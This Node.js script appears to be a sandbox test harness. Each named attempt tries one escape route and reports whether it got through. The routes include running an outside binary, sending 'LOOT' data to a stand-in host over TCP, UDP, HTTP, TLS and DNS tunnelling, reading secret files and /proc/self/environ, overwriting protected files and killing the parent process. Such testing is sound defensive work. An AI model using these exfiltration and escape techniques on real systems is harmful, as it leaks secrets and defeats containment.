// Attempts in Node: `attack.mjs NAME`. What each tries to reach comes in variables; whoever runs it looks whether it was reached.
import { exec, execFile, fork, spawn, spawnSync } from 'node:child_process';
import { createSocket } from 'node:dgram';
import dns from 'node:dns';
import fs from 'node:fs';
import http from 'node:http';
import http2 from 'node:http2';
import net from 'node:net';
import { basename, dirname } from 'node:path';
import tls from 'node:tls';
import { Worker } from 'node:worker_threads';

const { EVIL, STRANGER, STRANGER6, SECRET, PROTECTED, SCRATCH, LIBRARY, LOOT } = process.env;
const show = (data) => fs.writeSync(1, `${data}\n`);
const settle = (start) =>
  new Promise((resolve) => {
    start(resolve);
    setTimeout(resolve, 1500).unref();
  });
const ended = (child) =>
  settle((done) => {
    child.stdout?.on('data', show);
    child.on('error', done).on('close', done);
  });

const attempts = {
  spawn: () => ended(spawn(EVIL)),
  spawn_sync: () => show(spawnSync(EVIL).stdout ?? ''),
  spawn_detached: () => ended(spawn(EVIL, { detached: true })),
  spawn_shell: () => ended(spawn(EVIL, { shell: true })),
  exec: () => ended(exec(EVIL)),
  exec_file: () => ended(execFile(EVIL)),
  fork: () => ended(fork(SECRET, { execPath: EVIL, silent: true })),
  worker_spawn: () =>
    settle((done) =>
      new Worker(
        `const { spawnSync } = require('child_process'); require('fs').writeSync(1, String(spawnSync(process.env.EVIL).stdout))`,
        { eval: true },
      ).on('exit', done),
    ),
  drop_and_run: () => {
    fs.copyFileSync(EVIL, `${SCRATCH}/dropped`);
    fs.chmodSync(`${SCRATCH}/dropped`, 0o755);
    show(spawnSync(`${SCRATCH}/dropped`).stdout ?? '');
  },
  drop_and_load: () => {
    fs.copyFileSync(LIBRARY, `${SCRATCH}/dropped.node`);
    process.dlopen({ exports: {} }, `${SCRATCH}/dropped.node`);
  },
  script: () => {
    fs.writeFileSync(`${SCRATCH}/script`, `#!/bin/sh\necho EVIL RAN\n`, { mode: 0o755 });
    show(spawnSync(`${SCRATCH}/script`).stdout ?? '');
  },
  process_binding: () => {
    const { spawn: run } = process.binding('spawn_sync');
    run({ file: EVIL, args: [EVIL], envPairs: [], stdio: [0, 1, 2].map((fd) => ({ type: 'inherit', fd })) });
  },

  connect: () =>
    settle((done) =>
      net
        .connect(443, STRANGER, function () {
          this.end(LOOT, done);
        })
        .on('error', done),
    ),
  connect6: () =>
    settle((done) =>
      net
        .connect(443, STRANGER6, function () {
          this.end(LOOT, done);
        })
        .on('error', done),
    ),
  connect_name: () =>
    settle((done) =>
      net
        .connect(443, 'stranger.test', function () {
          this.end(LOOT, done);
        })
        .on('error', done),
    ),
  connect_local_address: () =>
    settle((done) =>
      net
        .connect({ port: 443, host: STRANGER, localAddress: '192.0.2.80' }, function () {
          this.end(LOOT, done);
        })
        .on('error', done),
    ),
  connect_own_lookup: () =>
    settle((done) =>
      net
        .connect(
          {
            port: 443,
            host: 'api.lab.test',
            lookup: (_, options, found) =>
              options.all ? found(null, [{ address: STRANGER, family: 4 }]) : found(null, STRANGER, 4),
          },
          function () {
            this.end(LOOT, done);
          },
        )
        .on('error', done),
    ),
  fetch: () => fetch(`http://${STRANGER}:80/${LOOT}`, { signal: AbortSignal.timeout(1500) }).catch(() => {}),
  http_proxy: () =>
    settle((done) =>
      http
        .request({ host: STRANGER, port: 80, path: `http://api.lab.test/${LOOT}` })
        .on('error', done)
        .end(),
    ),
  https_server_name: () =>
    settle((done) =>
      tls
        .connect({ host: STRANGER, port: 443, servername: `${LOOT}.lab.test`, rejectUnauthorized: false })
        .on('error', done),
    ),
  http2: () =>
    settle((done) =>
      http2
        .connect(`http://${STRANGER}:80`)
        .on('error', done)
        .request({ ':method': 'POST' })
        .on('error', done)
        .end(LOOT),
    ),
  datagram: () => settle((done) => createSocket('udp4').send(LOOT, 443, STRANGER, done)),
  datagram_connected: () =>
    settle((done) => {
      const socket = createSocket('udp4').on('error', done);
      socket.connect(443, STRANGER, (error) => (error ? done() : socket.send(LOOT, done)));
    }),
  datagram6: () => settle((done) => createSocket('udp6').send(LOOT, 443, STRANGER6, done)),
  worker_connect: () =>
    settle((done) =>
      new Worker(
        `require('net').connect(443, process.env.STRANGER, function () { this.end(process.env.LOOT); }).on('error', () => {})`,
        { eval: true },
      ).on('exit', done),
    ),
  listen: () =>
    settle((done) =>
      net
        .createServer()
        .on('error', done)
        .listen(4446, () => {
          show('REACHED');
          done();
        }),
    ),
  pipe: () =>
    settle((done) =>
      net
        .connect(process.env.LOCAL, function () {
          this.end(LOOT, done);
        })
        .on('error', done),
    ),

  lookup: () => settle((done) => dns.lookup(`${LOOT}.stranger.test`, done)),
  resolve: () => settle((done) => dns.resolveTxt(`${LOOT}.stranger.test`, done)),
  resolve_elsewhere: () =>
    settle((done) => {
      const resolver = new dns.Resolver({ timeout: 500, tries: 1 });
      resolver.setServers([STRANGER]);
      resolver.resolve4(`${LOOT}.lab.test`, done);
    }),
  resolve_other_port: () =>
    settle((done) => {
      const resolver = new dns.Resolver({ timeout: 500, tries: 1 });
      resolver.setServers([`${STRANGER}:443`]);
      resolver.resolve4(`${LOOT}.lab.test`, done);
    }),
  dns_over_https: () =>
    fetch(`http://${STRANGER}:443/dns-query?dns=${LOOT}`, { signal: AbortSignal.timeout(1500) }).catch(
      () => {},
    ),

  read: () => show(fs.readFileSync(SECRET)),
  read_promise: async () => show(await fs.promises.readFile(SECRET)),
  read_stream: () =>
    settle((done) => fs.createReadStream(SECRET).on('data', show).on('error', done).on('close', done)),
  read_link: () => {
    fs.symlinkSync(SECRET, `${SCRATCH}/link`);
    show(fs.readFileSync(`${SCRATCH}/link`));
  },
  read_copy: () => {
    fs.copyFileSync(SECRET, `${SCRATCH}/copy`);
    show(fs.readFileSync(`${SCRATCH}/copy`));
  },
  read_relative: () => {
    process.chdir(dirname(SECRET));
    show(fs.readFileSync(basename(SECRET)));
  },
  read_require: () => {
    try {
      process.getBuiltinModule('module').createRequire(SECRET)(SECRET);
    } catch (error) {
      show(error.stack); // quotes the line that is no JavaScript
    }
  },
  read_worker: () =>
    settle((done) =>
      new Worker(`require('fs').writeSync(1, require('fs').readFileSync(process.env.SECRET))`, { eval: true })
        .on('error', done)
        .on('exit', done),
    ),
  read_environment: () => show(fs.readFileSync('/proc/self/environ')),
  write: () => fs.writeFileSync(`${PROTECTED}/file`, 'OVERWRITTEN'),
  write_promise: () => fs.promises.appendFile(`${PROTECTED}/file`, 'OVERWRITTEN'),
  write_copy: () => {
    fs.writeFileSync(`${SCRATCH}/new`, 'OVERWRITTEN');
    fs.copyFileSync(`${SCRATCH}/new`, `${PROTECTED}/file`);
  },
  write_rename: () => {
    fs.writeFileSync(`${SCRATCH}/new`, 'OVERWRITTEN');
    fs.renameSync(`${SCRATCH}/new`, `${PROTECTED}/file`);
  },
  write_recursive: () => fs.mkdirSync(`${PROTECTED}/new/folder`, { recursive: true }),
  write_remove: () => fs.rmSync(`${PROTECTED}/file`),
  write_report: () => process.report.writeReport(`${PROTECTED}/new`),
  kill_init: async () => {
    for (const signal of ['SIGKILL', 'SIGSTOP', 'SIGTERM'])
      try {
        process.kill(process.ppid, signal);
      } catch {}
    show(spawnSync(EVIL).stdout ?? '');
    await attempts.connect();
  },
};

try {
  await attempts[process.argv[2]]();
} catch (error) {
  show(`REFUSED ${error.code}`);
}
process.exit();
